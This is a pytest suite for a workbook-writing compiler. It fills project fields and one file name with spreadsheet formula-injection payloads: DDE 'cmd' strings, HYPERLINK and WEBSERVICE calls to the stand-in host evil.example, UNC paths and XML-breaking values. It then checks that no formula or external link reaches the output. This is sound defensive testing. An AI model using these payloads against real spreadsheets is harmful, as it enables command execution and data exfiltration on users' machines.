"""Every workbook that we write is searched: no formula comes of what a user typed, and no link
leads out of the project.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from io import BytesIO
from itertools import cycle
from pathlib import Path
from urllib.parse import unquote

import pytest
from lxml import etree
from support.packages import unpacked
from support.projects import Form, Project, Row, small

from compiler.cli.main import main

EVIL = "evil.example"
"""Stands in each text that would do harm as a formula or as a link."""

INJECTIONS = (
    f'=HYPERLINK("http://{EVIL}/"&A1,"点此")',
    f"=cmd|' /C start {EVIL}'!A0",
    f"+cmd|' /C start {EVIL}'!A0",
    f"-2+3+cmd|' /C {EVIL}'!A0",
    f"@SUM(1+1)*cmd|' /C {EVIL}'!A0",
    f'=WEBSERVICE("http://{EVIL}")',
    f'=DDE("cmd";"/C {EVIL}";"1")',
    f"\t=1+{EVIL}",
    f"{{=1+{EVIL}}}",
    f"http://{EVIL}/a",
    f"https://{EVIL}/a b#c",
    f"ftp://{EVIL}",
    f"mailto:a@{EVIL}",
    f"internal:'{EVIL}'!A1",
    f"external:\\\\{EVIL}\\share\\a.xlsx",
    f"file://{EVIL}/a",
    f"\\\\{EVIL}\\share",
    f'"><f>1+{EVIL}</f><c r="',
    f"]]><f>{EVIL}</f>",
    f"_x003D_1+{EVIL}",
    f"'=1+{EVIL}",
)
"""Texts that a spreadsheet may take for something else."""

FORM_FIELDS = ("主题句", "进展情况", "填报人", "联系电话", "审核人", "审签人", "有关情况说明", "下一步措施", "完成时限", "事项名称", "完成状态", "完成日期")  # fmt: skip
TEXT_COLUMNS = ("整改措施", "整改目标", "牵头领导", "方面", "类别", "问题", "小标题", "文字", "联系人", "联系人电话", "别名", "文件标题", "指标名称", "计量单位", "勾稽关系", "处理方式")  # fmt: skip


def poisoned() -> Project:
    """Return a project in which every text that can be is an injection."""
    project = small()
    turn = cycle(INJECTIONS)

    def poison(row: Row, labels: tuple[str, ...]) -> None:
        row.update({label: next(turn) for label in labels if label in row})

    for label in ("通报标题", "发文机关", "联系电话", "通信地址"):
        project.information[label] = next(turn)
    for rows in project.tables.values():
        for row in rows:
            poison(row, TEXT_COLUMNS)
    for form in project.forms.values():
        poison(form.fields, FORM_FIELDS)
        for rows in form.tables.values():
            for row in rows:
                poison(row, TEXT_COLUMNS)
    hostile = f"={EVIL}'!A0"
    project.tables["单位名录"].append({"单位名称": hostile, "联系人": hostile})
    project.tables["措施清单"][3]["牵头单位"] = hostile
    del project.forms["区教育局/措施03-01.xlsx"]
    project.forms[f"区教育局/={EVIL}.xlsx"] = Form("措施09-09", dict.fromkeys(FORM_FIELDS, hostile))
    project.information["报送期限"] = "2025-01-10"
    return project


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project after every command that writes workbooks."""
    root = poisoned().write(tmp_path_factory.mktemp("outputs") / "项目")
    clean = small().write(tmp_path_factory.mktemp("clean"))
    day = ["--as-of", "2025-01-13"]
    main(["compile", str(root), "--draft"])
    main(["status", str(root), *day])
    main(["issue", str(root), *day])
    main(["return", str(root), *day])
    main(["diff", str(clean), str(root), "--output", str(root / "output")])
    return root


def workbooks(folder: Path) -> Iterator[tuple[Path, bytes]]:
    """Yield every workbook of a folder, those in archives too, as if they lay beside them."""
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".xlsx":
            yield path, path.read_bytes()
        elif path.suffix == ".zip":
            with zipfile.ZipFile(BytesIO(path.read_bytes())) as package:
                for name in package.namelist():
                    if name.endswith(".xlsx"):
                        yield path.parent / name, package.read(name)


def test_every_kind_of_workbook_is_there(written: Path) -> None:
    """Else the search would find nothing because there is nothing."""
    names = {path.name for path, _ in workbooks(written)}
    assert {
        "整改台账.xlsx",
        "核对报告.xlsx",
        "报送进度.xlsx",
        "变化对照.xlsx",
        "总台账.xlsx",
    } <= names
    contents = [content for _, content in workbooks(written)]
    assert (
        sum(EVIL.encode() in unpacked(content)["xl/sharedStrings.xml"] for content in contents) > 8
    )


def test_no_formula_comes_of_what_was_typed(written: Path) -> None:
    """Not in cells, names, validations, conditions or charts."""
    for path, content in workbooks(written):
        for part, xml in unpacked(content).items():
            if part.endswith(".xml"):
                for element in etree.fromstring(xml).iter("{*}f", "{*}formula", "{*}formula1", "{*}formula2", "{*}definedName"):  # fmt: skip
                    text = "".join(str(piece) for piece in element.itertext())
                    assert not re.search(
                        rf"{EVIL}|cmd\||HYPERLINK|WEBSERVICE|DDE|\[|https?:", text
                    ), (path, part, text)


def test_what_was_typed_is_text(written: Path) -> None:
    """A cell that shows an injection holds it as a text, and nothing else."""
    for path, content in workbooks(written):
        for part, xml in unpacked(content).items():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                for cell in etree.fromstring(xml).iter("{*}c"):
                    if EVIL in "".join(str(piece) for piece in cell.itertext()):
                        assert cell.get("t") == "inlineStr", (path, part, cell.get("r"))
                        assert cell.find("{*}f") is None, (path, part, cell.get("r"))


def test_no_link_leads_out_of_the_project(written: Path) -> None:
    """Links there are lead to the project's own files, by way of the folder."""
    followed = 0
    for path, content in workbooks(written):
        parts = unpacked(content)
        assert not [name for name in parts if re.search("externalLink|connections|vba|embed", name)]
        for name in (name for name in parts if name.endswith(".rels")):
            for relation in etree.fromstring(parts[name]):
                if relation.get("TargetMode") == "External":
                    target = unquote(relation.get("Target", "")).partition("#")[0]
                    assert not re.match(r"[a-z]+:|[/\\]", target, re.IGNORECASE), (path, target)
                    assert (path.parent / target).resolve().is_relative_to(written), (path, target)
                    followed += 1
    assert followed > 0
